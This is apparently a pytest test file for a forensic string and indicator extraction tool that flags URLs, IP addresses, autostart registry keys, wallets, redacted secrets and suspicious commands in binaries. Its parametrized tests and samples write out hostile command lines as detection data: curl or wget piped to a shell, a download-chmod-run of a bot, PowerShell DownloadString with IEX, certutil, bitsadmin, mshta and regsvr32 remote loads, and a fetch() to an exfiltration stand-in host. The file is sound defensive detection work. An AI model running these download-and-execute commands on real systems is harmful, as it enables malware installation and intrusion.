from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from orchestrion.domain.findings import Severity
from orchestrion.exceptions import ToolError
from orchestrion.tools.artifacts import at, redact_url
from orchestrion.tools.base import ToolOutput
from orchestrion.tools.binstrings import StringsTool, extract_strings
from orchestrion.tools.indicators import (
    decode_powershell,
    find_commands,
    find_indicators,
    ip_scope,
)
from tests.tools import forensics_samples as samples


async def _strings(*files: tuple[str, bytes | str], **args: Any) -> ToolOutput:
    output, _ = await StringsTool().run(args, samples.ctx(*files))
    return output


def _kind(output: ToolOutput, kind: str, file: str | None = None) -> Any:
    return next(
        o for o in output.observations if o.data.get("kind") == kind and file in (None, o.data["file"])
    )


def _values(output: ToolOutput, kind: str, file: str | None = None) -> list[str]:
    return [v["value"] for v in _kind(output, kind, file).data["values"]]


def _rule(output: ToolOutput, rule: str) -> list[Any]:
    return [o for o in output.observations if o.data.get("rule") == rule]


def _finding(output: ToolOutput, words: str) -> Any:
    return next(f for f in output.findings if words in f.title)


def test_extracts_ascii_and_utf16le_strings_with_offsets() -> None:
    data = b"\x00\x01ab\x00hello world\x00\xff" + "wide string".encode("utf-16-le") + b"\x00\x00tail!!"
    strings, truncated = extract_strings(data, min_length=6)

    assert [(s.offset, s.encoding, s.text) for s in strings] == [
        (5, "ascii", "hello world"),
        (18, "utf-16le", "wide string"),
        (42, "ascii", "tail!!"),
    ]
    assert not truncated
    assert [s.text for s in extract_strings(data, min_length=3)[0]][:2] == ["hello world", "wide string"]


def test_string_extraction_is_capped() -> None:
    data = b"\x00".join(b"string%05d" % i for i in range(50))
    strings, truncated = extract_strings(data, min_length=6, limit=10)

    assert truncated
    assert [s.text for s in strings] == [f"string{i:05d}" for i in range(10)]


async def test_long_lines_are_scanned_whole() -> None:
    line = "var a='" + "x" * 10_000 + "';fetch('http://exfil.example.net/c')"
    output = await _strings(("bundle.min.js", line))

    (value,) = _kind(output, "url").data["values"]
    assert value["value"] == "http://exfil.example.net/c"
    assert value["offset"] == line.index("http://exfil")


async def test_download_and_execute_is_high_and_cites_the_byte_offset() -> None:
    data = samples.dropper()
    output = await _strings(("dropper.exe", data))

    finding = _finding(output, "Download-and-execute command")
    assert finding.severity is Severity.HIGH
    cited = [output.observations[i] for i in finding.observation_indexes]
    (curl,) = _rule(output, "curl_pipe_shell")
    assert curl in cited
    assert curl.location == at("dropper.exe", data.find(b"curl -fsSL"))
    assert curl.data["text"] == samples.CURL
    # The encoded PowerShell downloads and runs a script too, so it is cited as well.
    (encoded,) = _rule(output, "encoded_powershell")
    assert encoded in cited
    assert encoded.data["decoded_commands"] == ["powershell_download_iex"]


async def test_encoded_powershell_is_high_and_decoded() -> None:
    data = samples.dropper()
    output = await _strings(("dropper.exe", data))

    finding = _finding(output, "Encoded PowerShell command")
    assert finding.severity is Severity.HIGH
    (observation,) = [output.observations[i] for i in finding.observation_indexes]
    assert observation.location == at("dropper.exe", data.find(b"powershell.exe"))
    assert observation.data["decoded"] == samples.PS_SCRIPT
    assert "DownloadString" in observation.summary
    evasion = _finding(output, "hidden or bypassing policy")
    assert evasion.severity is Severity.MEDIUM


async def test_shell_invocations_are_low() -> None:
    output = await _strings(("dropper.exe", samples.dropper()))

    finding = _finding(output, "Command interpreter invocation")
    assert finding.severity is Severity.LOW
    texts = sorted(output.observations[i].data["text"] for i in finding.observation_indexes)
    assert texts == ["/bin/sh -c id", "cmd.exe /c whoami > C:\\Users\\Public\\out.txt"]


async def test_hard_coded_network_indicators_in_an_executable_are_medium() -> None:
    data = samples.dropper()
    output = await _strings(("dropper.exe", data))

    finding = _finding(output, "Hard-coded network indicators in executable")
    assert finding.severity is Severity.MEDIUM
    cited = {output.observations[i].data["kind"] for i in finding.observation_indexes}
    assert cited == {"url", "ipv4", "ipv6"}
    urls = {v["value"]: v for v in _kind(output, "url").data["values"]}
    assert urls["http://evil.example.com/beacon"]["encoding"] == "utf-16le"
    assert urls["http://evil.example.com/beacon"]["offset"] == data.find("http://evil".encode("utf-16-le"))
    assert urls["http://schemas.microsoft.com/SMI/2005/WindowsSettings"]["benign"] is True
    assert urls["http://198.51.100.7/x.sh"]["benign"] is False
    addresses = {v["value"]: v["scope"] for v in _kind(output, "ipv4").data["values"]}
    assert addresses == {"198.51.100.7": "private", "10.0.0.8": "private"}
    assert _values(output, "ipv6") == ["2001:db8::dead:beef"]


async def test_other_indicator_kinds() -> None:
    output = await _strings(("dropper.exe", samples.dropper()))

    assert set(_values(output, "domain")) >= {"evil.example.com", "c2.evil-corp.com"}
    assert _values(output, "email") == ["admin@evil-corp.com"]
    assert "C:\\Users\\Public\\out.txt" in _values(output, "path")
    (key,) = _kind(output, "registry_key").data["values"]
    assert key["value"] == "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"
    assert key["persistence"] is True
    assert _finding(output, "Autostart registry key").severity is Severity.MEDIUM
    wallet = _kind(output, "wallet").data["values"][0]
    assert (wallet["value"], wallet["chain"]) == (samples.BITCOIN, "bitcoin")
    assert _finding(output, "Cryptocurrency wallet").severity is Severity.LOW
    previews = [v["decoded_preview"] for v in _kind(output, "base64").data["values"]]
    assert "this is a hidden configuration string for the implant" in previews


async def test_secrets_never_appear_in_the_output() -> None:
    output = await _strings(
        ("dropper.exe", samples.dropper()),
        ("creds.txt", "https://bob:hunter2pass@host.example.com/?token=abc123"),
    )

    text = json.dumps([(o.summary, o.data) for o in output.observations] + [f.title for f in output.findings])
    assert samples.GITHUB not in text
    assert "ghp_" in text  # Its redacted form (prefix, ellipsis, length) is shown.
    assert "hunter2pass" not in text
    assert "abc123" not in text
    assert _values(output, "url", "creds.txt") == ["https://bob:***@host.example.com/?token=***"]
    assert not [
        o for o in output.observations if o.data.get("kind") == "email" and o.data["file"] == "creds.txt"
    ]


async def test_a_script_is_not_called_an_executable_with_hard_coded_addresses() -> None:
    output = await _strings(("install.sh", f"#!/bin/sh\n{samples.CURL}\n"))

    assert _finding(output, "Download-and-execute").severity is Severity.HIGH
    assert not [f for f in output.findings if "Hard-coded" in f.title]


async def test_benign_urls_and_loopback_addresses_do_not_make_a_finding() -> None:
    body = b"\x00".join(
        [b"http://www.w3.org/2001/XMLSchema", b"bind 127.0.0.1 and 0.0.0.0", b"ocsp http://ocsp.digicert.com"]
    )
    output = await _strings(("app.exe", samples.pe(b"\x00" + body + b"\x00")))

    assert _values(output, "ipv4") == ["127.0.0.1", "0.0.0.0"]
    assert not [f for f in output.findings if "Hard-coded" in f.title]


async def test_indicator_values_are_capped_per_kind() -> None:
    urls = b"\x00".join(b"http://host%d.example.com/p" % i for i in range(8))
    output = await _strings(
        ("many.exe", samples.pe(b"\x00" + urls + b"\x00" + urls + b"\x00")), max_per_kind=3
    )

    observation = _kind(output, "url")
    assert observation.data["distinct"] == 3
    assert observation.data["occurrences"] == 16
    assert observation.data["capped"] is True
    assert [v["count"] for v in observation.data["values"]] == [2, 2, 2]
    assert "past the cap" in observation.summary
    assert output.data["files"]["many.exe"]["indicators"]["url"] == 16


async def test_command_observations_are_capped_per_rule() -> None:
    body = b"\x00".join(b"cmd.exe /c del file%d" % i for i in range(10))
    output = await _strings(("del.exe", samples.pe(b"\x00" + body)), max_per_kind=4)

    assert len(_rule(output, "cmd_exec")) == 4
    assert output.data["files"]["del.exe"]["commands"] == {"cmd_exec": 10}


async def test_summary_observation_samples_strings() -> None:
    output = await _strings(("dropper.exe", samples.dropper()), min_length=8)

    summary = output.observations[0]
    assert summary.location == "dropper.exe"
    assert summary.data["utf16le"] == 1
    assert summary.data["ascii"] >= 10
    assert all(len(s["text"]) <= 120 for s in summary.data["sample"])
    assert output.data["min_length"] == 8


async def test_arguments_are_validated() -> None:
    with pytest.raises(ToolError, match="invalid arguments"):
        await _strings(("a", b"x"), min_length=1)
    with pytest.raises(ToolError, match="invalid arguments"):
        await _strings(("a", b"x"), unknown=True)


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("wget -qO- https://example.org/i.sh | sudo bash", "curl_pipe_shell"),
        ("curl http://203.0.113.1/p | python3", "curl_pipe_shell"),
        ("wget http://203.0.113.1/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot", "download_chmod"),
        (
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example.com/a')",
            "powershell_download_iex",
        ),
        ("iwr http://x.example.com/a.ps1 -UseBasicParsing | iex", "powershell_download_iex"),
        ("certutil.exe -urlcache -split -f http://x.example.com/a.exe a.exe", "certutil_download"),
        ("bitsadmin /transfer job http://x.example.com/a.exe C:\\a.exe", "bitsadmin_download"),
        ("mshta http://x.example.com/a.hta", "mshta_remote"),
        ("regsvr32 /s /n /u /i:http://x.example.com/a.sct scrobj.dll", "regsvr32_remote"),
        ("powershell -ExecutionPolicy Bypass -File a.ps1", "powershell_evasion"),
        ("bash -c 'echo hi'", "sh_exec"),
    ],
)
def test_command_rules(line: str, rule: str) -> None:
    assert rule in {hit.rule.id for hit in find_commands(line)}


@pytest.mark.parametrize(
    "line",
    [
        "curl https://example.org/file.tar.gz -o file.tar.gz",
        "powershell -ExecutionPolicy RemoteSigned",
        "powershell -e NotBase64!!",
        "the shell -c flag",
        "finish.sh -c",
    ],
)
def test_benign_commands_are_not_flagged(line: str) -> None:
    assert list(find_commands(line)) == []


def test_powershell_decoding_refuses_non_utf16_blobs() -> None:
    assert decode_powershell(base64.b64encode("Get-Process".encode("utf-16-le")).decode()) == "Get-Process"
    assert decode_powershell(base64.b64encode(bytes(range(200, 256))).decode()) is None
    assert decode_powershell("!!!!") is None


def test_indicator_false_positives_are_avoided() -> None:
    text = "\n".join(
        [
            "System.Net.Http and System.Net",
            "install.sh main.py README.md",
            "std::string Foo::Bar 12:34:56",
            "version 1.2.3.4.5",
            "1BoatSLRHtKNngkdXEeobR76b53LETtpyU is not checksummed",
        ]
    )
    kinds = {(i.kind, i.value) for i in find_indicators(text)}

    assert not [k for k in kinds if k[0] in ("domain", "ipv6", "wallet", "ipv4")]


def test_indicator_helpers() -> None:
    assert ip_scope("8.8.8.8") == "global"
    assert ip_scope("127.0.0.1") == "loopback"
    assert ip_scope("169.254.1.1") == "link_local"
    assert ip_scope("100.64.0.1") == "other"
    assert redact_url("ftp://u:p@h/x?a=1&api_key=zzz&sig=q#f") == "ftp://u:***@h/x?a=1&api_key=***&sig=***#f"
